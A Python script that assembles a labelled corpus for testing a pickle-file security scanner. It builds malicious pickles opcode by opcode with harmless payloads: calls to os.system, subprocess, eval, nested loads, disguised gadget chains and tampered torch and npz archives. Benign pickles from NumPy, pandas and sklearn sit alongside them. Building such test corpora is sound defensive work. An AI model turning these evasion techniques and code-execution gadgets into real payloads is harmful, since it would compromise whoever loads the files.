"""Writes the corpus `pickle scan` is tested on (pickle-cli/tests/scan.rs)
and compared with picklescan and fickling on (scripts/compare_scanners.py):

    OUT/malicious/...   one file per technique of ../shared/docs/SECURITY.md
    OUT/benign/...      real data: NumPy, pandas, scikit-learn, stdlib values,
                        user classes, torch-like archives, decoys
    OUT/labels.tsv      path, kind (malicious/benign), what pickle scan must say

Every payload is harmless (`true`, `echo`, a file under /nonexistent) and no
malicious file is ever unpickled: they are assembled opcode by opcode. The
benign files are made by CPython's own pickle (run this in the pandas3 venv
for the NumPy, pandas and scikit-learn ones; they are skipped elsewhere).

    python scan_corpus.py OUT
"""

import collections
import dataclasses
import datetime
import decimal
import enum
import fractions
import io
import logging
import os
import pathlib
import pickle
import re
import struct
import sys
import types
import uuid
import zipfile

OUT = sys.argv[1]
LABELS = []


def write(kind, name, data, expect):
    path = os.path.join(OUT, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    LABELS.append((f"{kind}/{name}", kind, expect))


def bad(name, data):
    write("malicious", name, data, "dangerous")


# --- opcode assembly -------------------------------------------------------

def u(s):
    """A str push at protocol 4 (SHORT_BINUNICODE)."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):
    """A str push at protocol 2/3 (BINUNICODE)."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def g0(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module, name):
    return u(module) + u(name) + b"\x93"


def p4(body):
    return b"\x80\x04" + body + b"."


def p2(body):
    return b"\x80\x02" + body + b"."


def call0(module, name, *args):
    """Protocol 0: module.name(*args) with str args."""
    return g0(module, name) + b"(" + b"".join(b"V" + a.encode() + b"\n" for a in args) + b"tR"


def call4(module, name, *args):
    return sg(module, name) + b"(" + b"".join(u(a) for a in args) + b"tR"


def framed(body):
    """Protocol 5 with the whole body in one FRAME."""
    inner = body + b"."
    return b"\x80\x05\x95" + struct.pack("<Q", len(inner)) + inner


# --- malicious: calls of dangerous callables ---------------------------------

bad("reduce_os_system_p0.pkl", call0("os", "system", "true") + b".")
bad("reduce_posix_system_p2.pkl", p2(g0("posix", "system") + bu("true") + b"\x85R"))
bad("reduce_nt_system_p4.pkl", p4(call4("nt", "system", "true")))
bad("stack_global_os_system_p4.pkl", p4(call4("os", "system", "true")))
bad("framed_os_system_p5.pkl", framed(call4("os", "system", "true")))
bad("subprocess_popen_p4.pkl", p4(sg("subprocess", "Popen") + u("true") + b"\x85\x85R"))
bad("subprocess_check_output_p0.pkl", call0("subprocess", "check_output", "true") + b".")
bad("subprocess_getoutput_p4.pkl", p4(call4("subprocess", "getoutput", "true")))
bad("builtins_eval_p4.pkl", p4(call4("builtins", "eval", "1+1")))
bad("builtins_exec_p0.pkl", call0("builtins", "exec", "pass") + b".")
bad("py2_builtin_eval_p2.pkl", p2(g0("__builtin__", "eval") + bu("1") + b"\x85R"))
bad("builtins_compile_p4.pkl", p4(call4("builtins", "compile", "1", "<x>", "eval")))
bad("builtins_open_write_p4.pkl", p4(call4("builtins", "open", "/nonexistent/x", "w")))
bad("import_getattr_chain_p4.pkl", p4(
    sg("builtins", "getattr") + b"(" + call4("builtins", "__import__", "os") + u("system") + b"tR"
    + u("true") + b"\x85R"))
bad("inst_opcode_os_system.pkl", b"(S'true'\nios\nsystem\n.")
bad("obj_opcode_os_system_p1.pkl", b"(cos\nsystem\nU\x04trueo.")
bad("newobj_popen_p2.pkl", p2(g0("subprocess", "Popen") + b"]" + bu("true") + b"a\x85\x81"))
bad("newobj_ex_popen_p4.pkl", p4(sg("subprocess", "Popen") + b"]" + u("true") + b"a\x85}\x92"))
bad("state_setter_os_system_p4.pkl", p4(
    sg("collections", "OrderedDict") + b")R" + b"\x94" + sg("os", "system") + b"h\x00" + u("true") + b"\x86R0"))

# --- malicious: names computed or disguised ----------------------------------

# BINGET k; BINPUT j: scanners that memoize "the previous opcode's argument" see other strings.
bad("memo_copy_confusion_stack_global.pkl", p4(
    u("os") + b"q\x00" + u("system") + b"q\x01" + u("decoy") + b"0" + b"h\x00q\x02h\x01q\x03" + b"0" + b"0"
    + b"h\x02h\x03\x93" + u("true") + b"\x85R"))
bad("stack_global_from_memo.pkl", p4(u("os") + b"\x94" + u("system") + b"\x94" + b"00h\x00h\x01\x93" + u("true") + b"\x85R"))
bad("stack_global_short_binstring.pkl", p4(b"U\x02osU\x06system\x93U\x04true\x85R"))
bad("stack_global_binstring.pkl", p4(b"T\x02\x00\x00\x00osT\x06\x00\x00\x00system\x93U\x04true\x85R"))
bad("no_proto_stack_global_at_offset0.pkl", u("os") + u("system") + b"\x93" + u("true") + b"\x85R.")
bad("stack_global_computed_name.pkl", p4(
    u("os") + sg("builtins", "str.join") + u("") + b"(" + u("sys") + u("tem") + b"l\x86R" + b"\x93" + u("true") + b"\x85R"))
bad("dotted_alias_argparse_os_system.pkl", p4(call4("argparse", "_os.system", "true")))
bad("dotted_pathlib_os_system.pkl", p4(call4("pathlib", "os.system", "true")))
bad("dotted_suffix_builtins_eval_call.pkl", p4(call4("builtins", "eval.__call__", "1")))
bad("dunder_builtins_dict_get_exec.pkl", p4(
    sg("numpy", "__builtins__.get") + u("exec") + b"\x85R" + u("pass") + b"\x85R"))
bad("numpy_internal_sys_modules.pkl", p4(sg("numpy.core._internal", "sys.modules")))
bad("getattr_on_module_alias_random_os.pkl", p4(
    sg("builtins", "getattr") + sg("random", "_os") + u("system") + b"\x86R" + u("true") + b"\x85R"))
bad("int_hex_literal_genops_desync.pkl", b"I0x1\n0" + call0("os", "system", "true") + b".")
bad("long_octal_literal_genops_desync.pkl", b"L0o17L\n0" + call0("os", "system", "true") + b".")
bad("broken_pickle_after_payload.pkl", b"\x80\x02" + g0("os", "system") + bu("true") + b"\x85R" + b"\xff\xfe garbage")
bad("truncated_after_payload.pkl", b"\x80\x04" + call4("os", "system", "true") + b"(" + u("unfinished"))
bad("trailing_pickle_scanner_crash.pkl", p4(call4("posix", "system", "true")) + b"\x80\x04\x93.")
bad("second_stream_payload.pkl", p4(u("harmless")) + p4(call4("os", "system", "true")))
bad("ext1_extension_registry.pkl", p2(b"\x82\x01" + bu("true") + b"\x85R"))
bad("ext2_extension_registry.pkl", p2(b"\x83\x01\x02" + bu("true") + b"\x85R"))
bad("ext4_newobj.pkl", p2(b"\x84\x01\x00\x00\x01" + b")\x81"))
bad("compat_commands_getoutput.pkl", p2(g0("commands", "getoutput") + bu("true") + b"\x85R"))
bad("compat_urllib_urlretrieve.pkl", p2(g0("urllib", "urlretrieve") + bu("http://127.0.0.1:9/x") + b"\x85R"))
bad("compat_urllib2_urlopen.pkl", call0("urllib2", "urlopen", "http://127.0.0.1:9/") + b".")

# --- malicious: nested pickles and trampolines ------------------------------

inner = p4(call4("os", "system", "true"))
bad("nested_pickle_loads_bytes.pkl", b"\x80\x04" + sg("pickle", "loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R.")
bad("nested_cpickle_compat.pkl", p2(g0("cPickle", "loads") + b"U" + bytes([len(inner)]) + inner + b"\x85R"))
bad("nested_codecs_encode_loads.pkl", p2(
    g0("_pickle", "loads") + g0("_codecs", "encode") + bu(inner.decode("latin1")) + bu("latin1") + b"\x86R\x85R"))
bad("nested_torch_storage_load_from_bytes.pkl", p2(
    g0("torch.storage", "_load_from_bytes") + b"C" + bytes([len(inner)]) + inner + b"\x85R"))
bad("functools_partial_wrapper.pkl", p4(
    sg("functools", "partial") + sg("os", "system") + u("true") + b"\x86R" + b")R"))
bad("map_next_os_system.pkl", p4(
    sg("builtins", "next") + sg("builtins", "map") + sg("os", "system") + b"]" + u("true") + b"a\x86R\x85R"))
get_field = sg("builtins", "getattr") + sg("string", "Formatter") + b")R" + u("get_field") + b"\x86R"
bad("format_field_gadget_map_next.pkl", p4(
    sg("builtins", "next") + b"(" + sg("builtins", "map") + b"(" + get_field
    + b"]" + u("0.__globals__[_sys].modules[os].system") + b"a" + b"]" + b")a" + b"]" + b"}a"
    + b"tR" + b"tR"))
bad("pydoc_locate_chain.pkl", p4(call4("pydoc", "locate", "os.system") + u("true") + b"\x85R"))
bad("pkgutil_resolve_name_chain.pkl", p4(call4("pkgutil", "resolve_name", "os:system") + u("true") + b"\x85R"))
bad("importlib_import_module_getattr_static.pkl", p4(
    sg("inspect", "getattr_static") + call4("importlib", "import_module", "os") + u("system") + b"\x86R"
    + u("true") + b"\x85R"))
bad("operator_methodcaller_private.pkl", p4(
    sg("_operator", "methodcaller") + u("system") + u("true") + b"\x86R" + sg("random", "_os") + b"\x85R"))
bad("operator_attrgetter.pkl", p4(sg("operator", "attrgetter") + u("system") + b"\x85R" + sg("random", "_os") + b"\x85R"))
bad("copyreg_reconstructor_popen_init.pkl", b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\ncsubprocess\nPopen\n(lp0\nVtrue\natR.")
bad("defaultdict_factory_os_getcwd.pkl", p4(sg("collections", "defaultdict") + sg("os", "getcwd") + b"\x85R"))
bad("build_setattr_on_class.pkl", p4(sg("collections", "OrderedDict") + b"N}" + u("__reduce_ex__") + sg("os", "system") + b"s\x86b"))
bad("build_setattr_dotted_memo_confusion.pkl", p4(
    sg("argparse", "Namespace") + b"N}" + u("run") + sg("subprocess", "getoutput") + b"s\x86b0"
    + call4("argparse", "Namespace.run", "true")))
bad("result_laundering_via_build_state.pkl", p4(
    sg("argparse", "Namespace") + b")R}" + u("x") + call4("os", "system", "true") + b"sb"))
bad("setitem_on_global.pkl", p4(sg("os", "environ") + u("PATH") + u("/nonexistent") + b"s"))
bad("append_on_call_result.pkl", p4(sg("subprocess", "Popen") + b"]" + u("true") + b"a\x85R" + u("x") + b"a"))
bad("persid_from_call.pkl", p4(call4("os", "system", "true") + b"Q"))
bad("call_persistent_object.pkl", p4(u("pid") + b"Q" + u("true") + b"\x85R"))

# --- malicious: dangerous functions outside the usual lists ------------------

GADGETS = [
    ("pip_main", "pip", "main", ["install", "nonexistent-package"]),
    ("ssl_get_server_certificate", "ssl", "get_server_certificate", []),
    ("timeit_setup_exec", "timeit", "timeit", ["pass", "pass"]),
    ("numpy_testing_runstring", "numpy.testing._private.utils", "runstring", ["pass"]),
    ("cprofile_run", "cProfile", "run", ["pass"]),
    ("profile_run", "profile", "run", ["pass"]),
    ("trace_trace_runctx", "trace", "Trace.runctx", ["pass"]),
    ("idlelib_pyshell_runcode", "idlelib.pyshell", "ModifiedInterpreter.runcode", ["pass"]),
    ("code_interactiveconsole_runcode_alias", "code", "InteractiveConsole.runcode", ["pass"]),
    ("lib2to3_grammar_loads_nested", "lib2to3.pgen2.grammar", "Grammar.loads", ["x"]),
    ("ensurepip_run_pip", "ensurepip", "_run_pip", ["x"]),
    ("asyncio_unix_events_submodule", "asyncio.unix_events", "_UnixSubprocessTransport._start", ["true"]),
    ("distutils_write_file", "distutils.file_util", "write_file", ["/nonexistent/x", "y"]),
    ("numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", ["x", "y"]),
    ("ctypes_cdll_libc_system", "ctypes", "CDLL", ["libc.so.6"]),
    ("pty_spawn", "pty", "spawn", ["true"]),
    ("io_fileio_truncate", "_io", "FileIO", ["/nonexistent/x", "w"]),
    ("urllib_request_urlopen", "urllib.request", "urlopen", ["http://127.0.0.1:9/"]),
    ("cloudpickle_subimport", "cloudpickle.cloudpickle", "subimport", ["os"]),
    ("marshal_loads", "marshal", "loads", ["x"]),
    ("types_functiontype", "types", "FunctionType", ["x"]),
    ("logging_filehandler_create", "logging", "FileHandler", ["/nonexistent/x"]),
    ("uuid_get_command_stdout", "uuid", "_get_command_stdout", ["true"]),
    ("osx_support_read_output", "_osx_support", "_read_output", ["true"]),
    ("imaplib_imap4_stream", "imaplib", "IMAP4_stream", ["true"]),
    ("mailcap_findmatch", "mailcap", "findmatch", ["x", "y"]),
    ("webbrowser_open", "webbrowser", "open", ["http://127.0.0.1:9/"]),
    ("shutil_rmtree", "shutil", "rmtree", ["/nonexistent/x"]),
    ("os_remove", "os", "remove", ["/nonexistent/x"]),
    ("runpy_run_path", "runpy", "run_path", ["/nonexistent/x.py"]),
    ("zipimport_zipimporter", "zipimport", "zipimporter", ["/nonexistent/x.zip"]),
    ("numpy_load_pickle", "numpy", "load", ["/nonexistent/x.npy"]),
    ("pandas_read_pickle", "pandas", "read_pickle", ["/nonexistent/x.pkl"]),
    ("torch_load", "torch", "load", ["/nonexistent/x.pt"]),
    ("torch_jit_load", "torch.jit", "load", ["/nonexistent/x.pt"]),
    ("tempfile_mkdtemp", "tempfile", "mkdtemp", []),
    ("sys_exit", "sys", "exit", []),
    ("socket_create_connection", "socket", "create_connection", []),
]
for name, module, qualname, args in GADGETS:
    bad(name + ".pkl", p4(call4(module, qualname, *args)))
bad("import_side_effect_antigravity.pkl", p4(sg("antigravity", "geohash")))
bad("pathlib_write_text_then_sourcefileloader.pkl", p4(
    sg("pathlib", "Path.write_text") + call4("pathlib", "PosixPath", "/nonexistent/x.py") + u("pass") + b"\x86R0"
    + sg("importlib.machinery", "SourceFileLoader") + u("x") + u("/nonexistent/x.py") + b"\x86R"))

# --- malicious: containers ---------------------------------------------------

PAYLOAD2 = p2(g0("posix", "system") + bu("true") + b"\x85R")


def zip_bytes(members, compression=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members:
            z.writestr(name, data)
    return bytearray(buf.getvalue())


def torch_members(data_pkl):
    return [("archive/data.pkl", data_pkl), ("archive/byteorder", b"little"), ("archive/data/0", b"\x00" * 16),
            ("archive/version", b"3\n"), ("archive/.data/serialization_id", b"1234")]


bad("torchzip_data_pkl.pt", bytes(zip_bytes(torch_members(PAYLOAD2))))
z = zip_bytes(torch_members(PAYLOAD2))
i = z.find(b"archive/data.pkl")  # the local header's copy of the name
z[i:i + 16] = b"archive/data.pkX"
bad("torchzip_name_mismatch.pt", bytes(z))
z = zip_bytes(torch_members(PAYLOAD2))
z[6] |= 0x01  # "encrypted"
bad("torchzip_encrypted_flag.pt", bytes(z))
z = zip_bytes(torch_members(PAYLOAD2))
z[6] |= 0x20  # "patched data"
bad("torchzip_patched_data_flag.pt", bytes(z))
z = zip_bytes(torch_members(PAYLOAD2))
z[14:18] = b"\xde\xad\xbe\xef"  # CRC
bad("torchzip_bad_crc.pt", bytes(z))
import warnings
warnings.simplefilter("ignore")
bad("torchzip_duplicate_member.pt", bytes(zip_bytes([("archive/data.pkl", PAYLOAD2), ("archive/data.pkl", p2(b"N"))])))
bad("zip_member_proto0_nonstandard_ext.zip", bytes(zip_bytes([("model/weights.dat", call0("os", "system", "true") + b".")])))
bad("zip_deflated_member.zip", bytes(zip_bytes([("model.pkl", PAYLOAD2)], zipfile.ZIP_DEFLATED)))
bad("polyglot_pickle_then_zip.pkl", PAYLOAD2 + bytes(zip_bytes([("data.pkl", p2(b"N"))])))
LEGACY_MAGIC = p2(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little"))
legacy_rest = [p2(b"M\xe9\x03"), p2(b"}"), None, p2(b"]")]
bad("legacy_torch_payload_in_data_pickle.pt",
    LEGACY_MAGIC + legacy_rest[0] + legacy_rest[1] + PAYLOAD2 + legacy_rest[3] + b"\x00" * 16)
bad("legacy_torch_magic_via_reduce.pt",
    p2(g0("builtins", "eval") + bu("0x1950A86A20F9469CFC6C") + b"\x85R") + legacy_rest[0] + legacy_rest[1] + p2(b"}") + legacy_rest[3])
bad("raw_pickle_with_bin_extension.bin", PAYLOAD2)
bad("pickle_then_data.pkl", PAYLOAD2 + b"\x00\x01\x02 trailing data")


def npy_object(payload):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - len(header) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


bad("npy_object_array_payload.npy", npy_object(p4(call4("os", "system", "true"))))
bad("npz_object_member.npz", bytes(zip_bytes([("arr_0.npy", npy_object(PAYLOAD2))])))
bad("npz_compressed_object_member.npz", bytes(zip_bytes([("x.npy", npy_object(PAYLOAD2))], zipfile.ZIP_DEFLATED)))

# --- benign ------------------------------------------------------------------

app = types.ModuleType("corpus_app")
sys.modules["corpus_app"] = app


def in_app(cls):
    cls.__module__ = "corpus_app"
    setattr(app, cls.__name__, cls)
    return cls


@in_app
@dataclasses.dataclass
class Point:
    x: float
    y: float


@in_app
@dataclasses.dataclass(slots=True) if sys.version_info >= (3, 10) else (lambda c: c)
class Slotted:
    a: int
    b: str


@in_app
class Color(enum.Enum):
    RED = 1
    GREEN = 2


Pair = collections.namedtuple("Pair", "left right")
in_app(Pair)


def good(name, obj, expect, protocols=(0, 2, 4, 5)):
    for proto in protocols:
        write("benign", f"{name}_p{proto}.pkl", pickle.dumps(obj, protocol=proto), expect)


good("plain_data", {"a": [1, 2.5, "x", None, True], "b": (b"bytes", bytearray(b"ba")), "c": {1, 2}, "d": frozenset([3])}, "safe")
good("stdlib_values", [datetime.datetime(2020, 1, 2, 3, 4, 5, tzinfo=datetime.timezone.utc), datetime.date(2020, 1, 1),
                       datetime.timedelta(seconds=5), decimal.Decimal("1.10"), fractions.Fraction(1, 3),
                       uuid.UUID(int=1), complex(1, 2), range(3), slice(1, 2)], "safe")
good("collections", [collections.OrderedDict(a=1), collections.Counter("aab"), collections.deque([1], maxlen=3),
                     collections.defaultdict(list, {"k": [1]})], "safe")
good("paths", [pathlib.PurePosixPath("/tmp/x"), pathlib.PurePath("a/b")], "safe", (2, 4))
good("regex", re.compile(r"\d+", re.I), "safe", (2, 4))
good("logger", logging.getLogger("corpus.app"), "safe", (2, 4))
good("exception", ValueError("bad value"), "safe", (2, 4))
good("dataclass", Point(1.0, 2.0), "unknown", (0, 4))
good("dataclass_slots", Slotted(1, "b"), "unknown", (2, 4))
good("enum_member", Color.GREEN, "unknown", (2, 4))
good("namedtuple", Pair(1, 2), "unknown", (2, 4))
good("decoy_strings", {"cmd": "os.system('rm -rf /')", "code": "__import__('os').system('true')",
                       "names": ["eval", "exec", "subprocess.Popen", "builtins.getattr"]}, "safe")
good("decoy_bytes_not_loaded", {"blob": inner, "blob2": PAYLOAD2}, "safe", (2, 4))
shared = [1, 2, 3]
good("high_get_put_ratio_shared_refs", [shared] * 500, "safe", (2, 4))
good("floats_p0", [1.5, -0.0, float("inf"), 1e300], "safe", (0,))
write("benign", "int_hex_literal_plain.pkl", b"I0x1F\n.", "safe")

try:
    import zoneinfo
    good("zoneinfo", datetime.datetime(2020, 1, 1, tzinfo=zoneinfo.ZoneInfo("UTC")), "safe", (2, 4))
except Exception:
    pass

try:
    import numpy as np
    good("numpy_arrays", [np.arange(6, dtype="<i8").reshape(2, 3), np.array([1.5], dtype="<f4"), np.array(["ab"]),
                          np.array(["2020-01-01"], dtype="datetime64[ns]"), np.zeros(2, dtype=[("a", "<i4"), ("b", "<f8")])],
         "safe", (2, 4, 5))
    good("numpy_scalars", [np.float64(1.5), np.int32(3), np.bool_(True), np.datetime64("2020-01-01")], "safe", (2, 4))
    good("numpy_object_array", np.array([1, "a", None], dtype=object), "safe", (2, 4))
    good("numpy_masked", np.ma.masked_array([1, 2], mask=[0, 1]), "safe", (2, 4))
    good("numpy_rng", [np.random.default_rng(0), np.random.RandomState(1)], "safe", (2, 4))
    buf = io.BytesIO()
    np.save(buf, np.arange(4.0))
    write("benign", "plain_array.npy", buf.getvalue(), "safe")
    buf = io.BytesIO()
    np.save(buf, np.array([1, "a"], dtype=object), allow_pickle=True)
    write("benign", "object_array.npy", buf.getvalue(), "safe")
    buf = io.BytesIO()
    np.savez_compressed(buf, a=np.arange(3), b=np.array([{"k": 1}], dtype=object))
    write("benign", "arrays_compressed.npz", buf.getvalue(), "safe")
except ImportError:
    pass

try:
    import pandas as pd
    df = pd.DataFrame({"i": [1, 2], "f": [1.5, None], "s": ["a", "b"],
                       "d": pd.to_datetime(["2020-01-01", "2021-01-01"]), "c": pd.Categorical(["x", "y"])})
    good("pandas_frame", df, "safe", (2, 4, 5))
    good("pandas_series", df["f"], "safe", (4,))
    good("pandas_timestamp_tz", pd.Timestamp("2020-01-01", tz="UTC"), "safe", (4,))
except ImportError:
    pass

try:
    from sklearn import ensemble, linear_model, pipeline, preprocessing
    X = [[0.0, 1.0], [1.0, 0.0], [2.0, 1.0], [3.0, 3.0]] * 3
    y = [0, 1, 0, 1] * 3
    good("sklearn_logistic", linear_model.LogisticRegression().fit(X, y), "safe", (4, 5))
    good("sklearn_forest", ensemble.RandomForestClassifier(n_estimators=2, random_state=0).fit(X, y), "safe", (4,))
    good("sklearn_pipeline", pipeline.make_pipeline(preprocessing.StandardScaler(), linear_model.Ridge()).fit(X, y), "safe", (4,))
except ImportError:
    pass

# A torch-like archive: what torch.save writes, made with stand-in modules
# named as torch's (torch itself is not installed).
torch_mod = types.ModuleType("torch")
torch_utils = types.ModuleType("torch._utils")


class FloatStorage:
    pass


FloatStorage.__module__ = "torch"
torch_mod.FloatStorage = FloatStorage


def _rebuild_tensor_v2(*args):
    raise AssertionError("never called")


_rebuild_tensor_v2.__module__ = "torch._utils"
torch_utils._rebuild_tensor_v2 = _rebuild_tensor_v2
torch_mod._utils = torch_utils
sys.modules["torch"] = torch_mod
sys.modules["torch._utils"] = torch_utils


class Tensor:
    def __init__(self, key, numel):
        self.key, self.numel = key, numel

    def __reduce__(self):
        return (_rebuild_tensor_v2, (StorageRef(self.key, self.numel), 0, (self.numel,), (1,), False, collections.OrderedDict()))


class StorageRef:
    def __init__(self, key, numel):
        self.key, self.numel = key, numel


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, StorageRef):
            return ("storage", FloatStorage, str(obj.key), "cpu", obj.numel)
        return None


def torch_pickle(obj, protocol=2):
    buf = io.BytesIO()
    TorchPickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


state = collections.OrderedDict([("layer.weight", Tensor(0, 4)), ("layer.bias", Tensor(1, 2))])
write("benign", "torch_like_state_dict.pt", bytes(zip_bytes(torch_members(torch_pickle(state)))), "safe")
write("benign", "torch_like_legacy.pt",
      LEGACY_MAGIC + legacy_rest[0] + p2(b"}") + torch_pickle(state) + p2(b"]" + bu("0") + b"a" + bu("1") + b"a") + b"\x00" * 24,
      "safe")
inner_ok = p2(b"]K\x01a")
write("benign", "torch_storage_load_from_bytes_benign.pkl",
      p2(g0("torch.storage", "_load_from_bytes") + b"C" + bytes([len(inner_ok)]) + inner_ok + b"\x85R"), "safe")

# Stdlib values as other Pythons write them: 2.7 (Python 2 names, str as
# bytes), 3.8 and 3.13 (pathlib._local), where pyenv has them.
OTHER = r'''
import collections, datetime, decimal, pickle, sys, uuid
values = [{"a": [1, 2.5, u"\\u00e9", None, True], "s": set([1]), "long": 2 ** 70}, datetime.datetime(2020, 1, 2, 3, 4, 5),
          datetime.date(2020, 1, 1), datetime.timedelta(seconds=5), decimal.Decimal("1.10"), uuid.UUID(int=1),
          collections.OrderedDict([("k", 1)]), collections.deque([1]), complex(1, 2), frozenset([2]), b"bytes"]
if sys.version_info[0] >= 3:
    import pathlib
    values.append(pathlib.PurePosixPath("/tmp/x"))
for proto in range(pickle.HIGHEST_PROTOCOL + 1):
    with open("%s/py%d%d_stdlib_p%d.pkl" % (sys.argv[1], sys.version_info[0], sys.version_info[1], proto), "wb") as f:
        pickle.dump(values, f, protocol=proto)
'''
try:
    import subprocess
    pyenv_root = subprocess.run(["pyenv", "root"], capture_output=True, text=True, check=True).stdout.strip()
    for version in sorted(os.listdir(os.path.join(pyenv_root, "versions"))):
        if version.split(".")[:2] not in (["2", "7"], ["3", "8"], ["3", "13"]):
            continue
        exe = os.path.join(pyenv_root, "versions", version, "bin", "python")
        bdir = os.path.join(OUT, "benign")
        before = set(os.listdir(bdir))
        subprocess.run([exe, "-c", OTHER, bdir], check=True)
        for name in sorted(set(os.listdir(bdir)) - before):
            LABELS.append((f"benign/{name}", "benign", "safe"))
except (OSError, subprocess.CalledProcessError):
    pass

with open(os.path.join(OUT, "labels.tsv"), "w") as f:
    for path, kind, expect in LABELS:
        f.write(f"{path}\t{kind}\t{expect}\n")
print(f"wrote {len(LABELS)} files to {OUT}")
